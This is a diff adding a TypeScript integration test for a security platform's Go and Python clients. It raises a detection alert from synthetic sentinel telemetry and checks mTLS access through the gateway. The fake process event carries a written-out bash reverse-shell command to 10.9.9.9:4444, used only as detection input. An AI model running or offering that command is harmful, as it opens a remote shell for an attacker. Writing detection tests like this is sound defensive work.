@@ -1,0 +1,359 @@
+// The Go and Python clients (clients/go, clients/python) against the gateway of a real `omega up`
+// stack (trust, intelligence, orchestrator, gateway as built processes): each quickstart dials
+// localhost by name, verifies the gateway with the trust CA bundle, authenticates with the operator
+// certificate, lists, gets server info and streams an alert a sentinel's telemetry raised; without a
+// client certificate the handshake is refused. The venv and Go modules come from
+// scripts/clients-tools.mjs (npm run setup).
+import { execFile } from 'node:child_process';
+import { createHash, randomUUID } from 'node:crypto';
+import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { homedir, tmpdir } from 'node:os';
+import { join } from 'node:path';
+import * as grpc from '@grpc/grpc-js';
+import { connectBus, identityNatsOptions, publish, subjects, type Bus } from '@omega/bus';
+import {
+  Event,
+  EventBatch,
+  IntelligenceServiceClient,
+  ListAlertsRequest,
+  Severity,
+  severityToJSON,
+  type Alert,
+} from '@omega/proto';
+import { createLogger, createPromiseClient } from '@omega/runtime';
+import type { ServiceName } from '@omega/service';
+import {
+  bootstrapChannelCredentials,
+  enroll,
+  joinTokenFromFile,
+  signEventBatch,
+  type Credentials,
+} from '@omega/trust-client';
+import { eventually } from '@omega/testkit';
+import { LocalStack } from './local-stack';
+import { cliChannelCredentials } from './operator-identity';
+
+const root = join(__dirname, '..', '..', '..');
+const SERVICES: ServiceName[] = ['trust', 'intelligence', 'orchestrator', 'gateway'];
+const NODE = 'clients-spec-node';
+/** The shipped Sigma rule for an interactive shell to a TCP socket (apps/intelligence/rules). */
+const REVERSE_SHELL_COMMAND = 'bash -i >& /dev/tcp/10.9.9.9/4444 0>&1';
+
+/** How a client run exited and what it printed. */
+interface Run {
+  readonly code: number;
+  readonly stdout: string;
+  readonly stderr: string;
+}
+
+/** Runs `file` with `args` (never rejects: a refusal is an answer to check). */
+function run(
+  file: string,
+  args: readonly string[],
+  options: { cwd?: string; env?: NodeJS.ProcessEnv } = {},
+): Promise<Run> {
+  return new Promise((resolve) => {
+    execFile(file, args, { timeout: 180_000, ...options }, (err, stdout, stderr) => {
+      const code = err === null ? 0 : typeof err.code === 'number' ? err.code : -1;
+      resolve({ code, stdout, stderr });
+    });
+  });
+}
+
+/** The venv scripts/clients-tools.mjs builds, keyed by clients/python/requirements.txt. */
+function pythonVenv(): string {
+  const requirements = readFileSync(join(root, 'clients', 'python', 'requirements.txt'));
+  const hash = createHash('sha256').update(requirements).digest('hex').slice(0, 12);
+  const cache = process.env['OMEGA_CACHE_DIR'] ?? join(homedir(), '.cache', 'omega');
+  const venv = join(cache, `python-clients-${hash}`);
+  if (!existsSync(join(venv, '.complete'))) {
+    throw new Error(`the Python clients' venv is not at ${venv}: run npm run setup`);
+  }
+  return venv;
+}
+
+const output: string[] = [];
+let stack: LocalStack;
+let dataDir: string;
+let goQuickstart: string;
+let python: string;
+let raised: Alert;
+let sentinel: SpecSentinel;
+
+/** A sentinel enrolled with trust (the stack's sentinel/* join token) on its own bus connection. */
+interface SpecSentinel {
+  readonly credentials: Credentials;
+  readonly bus: Bus;
+  readonly sessionId: string;
+  sequence: bigint;
+}
+
+async function enrollSentinel(): Promise<SpecSentinel> {
+  const keys = join(dataDir, 'trust', 'keys');
+  const caPem = readFileSync(join(keys, 'trust-ca.pem'), 'utf8');
+  const joinToken = joinTokenFromFile(
+    readFileSync(join(keys, 'join-tokens'), 'utf8'),
+    'sentinel',
+    '*',
+  );
+  if (joinToken === undefined) throw new Error('no sentinel/* join token in the stack');
+  const credentials = await enroll({
+    trustAddress: `127.0.0.1:${stack.portsOf('trust').grpcPort}`,
+    subjectKind: 'sentinel',
+    name: NODE,
+    joinToken,
+    channelCredentials: bootstrapChannelCredentials(caPem),
+  });
+  const clientCertificate = {
+    certificatePem: credentials.certificateChainPem,
+    privateKeyPem: credentials.tlsPrivateKey.export({ format: 'pem', type: 'pkcs8' }).toString(),
+  };
+  const bus = await connectBus({
+    servers: stack.natsUrl ?? '',
+    name: `clients-spec-${NODE}`,
+    logger: createLogger({ service: 'spec', level: 'silent' }),
+    natsOptions: identityNatsOptions({
+      caPem,
+      identity: { kind: 'sentinel', name: NODE },
+      clientCertificate: () => clientCertificate,
+    }),
+  });
+  return { credentials, bus, sessionId: randomUUID(), sequence: 0n };
+}
+
+/**
+ * Publishes one reverse-shell process launch (in `pod` of namespace clients, or on the node) as the
+ * sentinel's signed batch. Alerts are folded per (rule, entity) per minute: a new pod is a new alert.
+ */
+async function raiseAlert(pod?: string): Promise<void> {
+  const nowNs = BigInt(Date.now()) * 1_000_000n;
+  const launched = {
+    pid: 4242,
+    uid: `${NODE}:4242:${nowNs}`,
+    name: 'bash',
+    executablePath: '/usr/bin/bash',
+    args: ['bash', '-i'],
+    cmdLine: REVERSE_SHELL_COMMAND,
+    startTimeNs: String(nowNs),
+    user: { posixUid: 0, posixGid: 0 },
+    parent: { pid: 4200, name: 'sh', executablePath: '/bin/sh' },
+  };
+  // As the sentinel writes a launch (test-corpus/demo/process-events.ndjson has real ones).
+  const event = Event.fromJSON({
+    id: randomUUID(),
+    timeNs: String(nowNs),
+    classUid: 'EVENT_CLASS_PROCESS_ACTIVITY',
+    severity: 'SEVERITY_INFORMATIONAL',
+    message: 'exec /usr/bin/bash (pid 4242, ppid 4200)',
+    actor: { process: launched, user: { posixUid: 0, posixGid: 0 } },
+    node: NODE,
+    ...(pod ? { workload: { namespace: 'clients', pod } } : {}),
+    processActivity: { activityId: 'PROCESS_ACTIVITY_ID_LAUNCH', process: launched },
+  });
+  const { credentials } = sentinel;
+  const sequence = ++sentinel.sequence;
+  const batch = EventBatch.fromPartial({
+    sender: { id: credentials.subject, keyId: credentials.signer.keyId },
+    sessionId: sentinel.sessionId,
+    sequence,
+    createdTimeNs: nowNs,
+    events: [event],
+  });
+  const signed = signEventBatch(credentials.signer, batch);
+  // The signed bytes as produced, never a re-encoding.
+  const asSigned = {
+    $type: EventBatch.$type,
+    encode: () => ({ finish: () => signed }),
+    decode: EventBatch.decode,
+  };
+  await publish(sentinel.bus, subjects.telemetry('process', NODE), asSigned, batch, {
+    msgId: `${credentials.subject}:${sentinel.sessionId}:${sequence}`,
+  });
+}
+
+beforeAll(async () => {
+  for (const name of SERVICES) {
+    if (!existsSync(join(root, 'apps', name, 'dist', 'main.js'))) {
+      throw new Error(`${name} is not built: run \`npm run build\` (npm test does it)`);
+    }
+  }
+  python = join(pythonVenv(), 'bin', 'python');
+  dataDir = mkdtempSync(join(tmpdir(), 'omega-clients-'));
+  goQuickstart = join(dataDir, 'quickstart');
+  // The Go example builds (Go's build cache makes a second build quick) while the stack starts.
+  const goBuild = run('go', ['build', '-o', goQuickstart, './examples/quickstart'], {
+    cwd: join(root, 'clients', 'go'),
+  });
+  for (let attempt = 0; ; attempt++) {
+    stack = new LocalStack({
+      root,
+      stateDir: dataDir,
+      // gRPC ports 51051-52957: inside the range .ci/run reserves from ephemeral ports.
+      portOffset: 1000 + Math.floor(Math.random() * 1900),
+      services: SERVICES,
+      out: (line) => output.push(line),
+      readyTimeoutMs: 90_000,
+      nodeBin: process.execPath,
+      serviceEnv: { orchestrator: { OMEGA_ORCHESTRATOR_PLAYBOOK_DIR: '' } },
+    });
+    try {
+      await stack.start();
+      break;
+    } catch (err) {
+      if (attempt >= 3 || !String(err).includes('already in use')) throw err;
+    }
+  }
+  const built = await goBuild;
+  if (built.code !== 0) throw new Error(`go build ./examples/quickstart failed:\n${built.stderr}`);
+
+  // One alert, raised by the shipped rules from a sentinel's telemetry, seen through the gateway.
+  sentinel = await enrollSentinel();
+  await raiseAlert();
+  const credentials = await cliChannelCredentials(dataDir, 'gateway');
+  if (credentials === undefined) throw new Error(`no operator credential in ${dataDir}`);
+  const intelligence = createPromiseClient(IntelligenceServiceClient, gatewayAddress(), {
+    credentials: credentials as grpc.ChannelCredentials,
+    timeoutMs: 20_000,
+  });
+  try {
+    raised = await eventually('the reverse-shell alert listed through the gateway', async () =>
+      (await intelligence.listAlerts(ListAlertsRequest.fromPartial({ pageSize: 10 }))).alerts.find(
+        (alert) => alert.node === NODE,
+      ),
+    );
+  } finally {
+    intelligence.close();
+  }
+}, 420_000);
+
+afterAll(async () => {
+  await sentinel?.bus.drain();
+  await stack?.stop();
+  if (dataDir) rmSync(dataDir, { recursive: true, force: true });
+});
+
+/** The gateway by name: its certificate names localhost on a local stack. */
+function gatewayAddress(): string {
+  return `localhost:${stack.portsOf('gateway').grpcPort}`;
+}
+
+function operatorFile(name: 'ca.pem' | 'operator.pem' | 'operator-key.pem'): string {
+  return join(dataDir, 'operator', name);
+}
+
+/**
+ * The quickstarts' flags are spelled alike: -flag for Go, --flag for Python. `replay`: retained
+ * alerts from the last hour first (the one raised in beforeAll is streamed); otherwise new ones only.
+ */
+function flags(dash: '-' | '--', withCertificate: boolean, replay = true): string[] {
+  const pairs: [string, string][] = [
+    ['address', gatewayAddress()],
+    ['ca', operatorFile('ca.pem')],
+    ...(withCertificate
+      ? ([
+          ['cert', operatorFile('operator.pem')],
+          ['key', operatorFile('operator-key.pem')],
+        ] as [string, string][])
+      : []),
+    ...(replay ? ([['since', dash === '-' ? '1h' : '3600']] as [string, string][]) : []),
+    ['alerts', '1'],
+    ['timeout', dash === '-' ? '60s' : '60'],
+  ];
+  return pairs.flatMap(([name, value]) => [`${dash}${name}`, value]);
+}
+
+function runGo(withCertificate: boolean, replay = true): Promise<Run> {
+  return run(goQuickstart, flags('-', withCertificate, replay));
+}
+
+function runPython(withCertificate: boolean, replay = true): Promise<Run> {
+  return run(
+    python,
+    [
+      join(root, 'clients', 'python', 'examples', 'quickstart.py'),
+      ...flags('--', withCertificate, replay),
+    ],
+    { env: { ...process.env, PYTHONPATH: join(root, 'clients', 'python') } },
+  );
+}
+
+function gatewayVersion(): string {
+  const packageJson = readFileSync(join(root, 'apps', 'gateway', 'package.json'), 'utf8');
+  return (JSON.parse(packageJson) as { version: string }).version;
+}
+
+/** What both quickstarts print for the operator on this stack, line by line. */
+function expectOperatorRun(result: Run): void {
+  expect(result).toMatchObject({ code: 0, stderr: '' });
+  const lines = result.stdout.trim().split('\n');
+  const alert = `${raised.id} ${severityToJSON(raised.severity)} ${raised.ruleId} "${raised.title}"`;
+  expect(lines).toEqual(
+    expect.arrayContaining([
+      'whoami: omega://local/operator/cli (AUTH_METHOD_MTLS)',
+      expect.stringMatching(new RegExp(`^server: omega ${gatewayVersion()}, cluster local,`)),
+      'service: omega.v1.IntelligenceService SERVING_STATUS_SERVING',
+      'service: omega.v1.DeceptionService SERVING_STATUS_NOT_SERVING',
+      'alerts: 1 listed',
+      `alert: ${alert}`,
+      `streamed: ${alert}`,
+      'stream: 1 alert(s)',
+    ]),
+  );
+}
+
+describe('the Go and Python clients against the gateway of omega up', () => {
+  it('raised a real alert from a sentinel’s telemetry through the shipped rules', () => {
+    expect(raised.node).toBe(NODE);
+    expect(raised.severity).toBeGreaterThanOrEqual(Severity.SEVERITY_HIGH);
+    expect(raised.ruleId).toMatch(/^sigma:/);
+  });
+
+  it('Go quickstart: verifies localhost with the CA bundle, says who the operator is, lists and streams the alert', async () => {
+    expectOperatorRun(await runGo(true));
+  });
+
+  it('Python quickstart: verifies localhost with the CA bundle, says who the operator is, lists and streams the alert', async () => {
+    expectOperatorRun(await runPython(true));
+  });
+
+  it('both quickstarts stream an alert raised while their streams are open', async () => {
+    let running = true;
+    const runs = Promise.all([runGo(true, false), runPython(true, false)]).finally(
+      () => (running = false),
+    );
+    // Neither says when its stream is subscribed: fresh alerts (a new pod each, so none is folded
+    // into another) are raised until both have streamed one and exited.
+    for (let n = 0; running; n++) {
+      await raiseAlert(`live-${n}`);
+      await new Promise((resolve) => setTimeout(resolve, 1_000));
+    }
+    for (const result of await runs) {
+      expect(result).toMatchObject({ code: 0, stderr: '' });
+      const streamed = /^streamed: (\S+) SEVERITY_\w+ sigma:\S+ "(.*)"$/m.exec(result.stdout);
+      expect(streamed?.[1]).not.toBe(raised.id);
+      expect(streamed?.[2]).toMatch(/clients\/live-\d+/);
+      expect(result.stdout).toContain('stream: 1 alert(s)');
+    }
+  });
+
+  it('Go quickstart without a client certificate: the handshake is refused, exit 1 naming the call', async () => {
+    const refused = await runGo(false);
+    expect(refused.code).toBe(1);
+    expect(refused.stdout).toBe('');
+    expect(refused.stderr).toContain(`quickstart: ${gatewayAddress()}: WhoAmI:`);
+    // TLS 1.3: the client's handshake completes before the gateway checks for a certificate, so Go
+    // sees the refusal as the alert it reads or as the connection closed under its first write.
+    expect(refused.stderr).toContain('code = Unavailable');
+    expect(refused.stderr).toMatch(
+      /tls: certificate required|broken pipe|connection reset by peer/,
+    );
+  });
+
+  it('Python quickstart without a client certificate: the handshake is refused, exit 1 naming the call', async () => {
+    const refused = await runPython(false);
+    expect(refused.code).toBe(1);
+    expect(refused.stdout).toBe('');
+    expect(refused.stderr).toContain('TLSV1_ALERT_CERTIFICATE_REQUIRED');
+    expect(refused.stderr).toContain(`quickstart: ${gatewayAddress()}: WhoAmI: UNAVAILABLE`);
+  });
+});
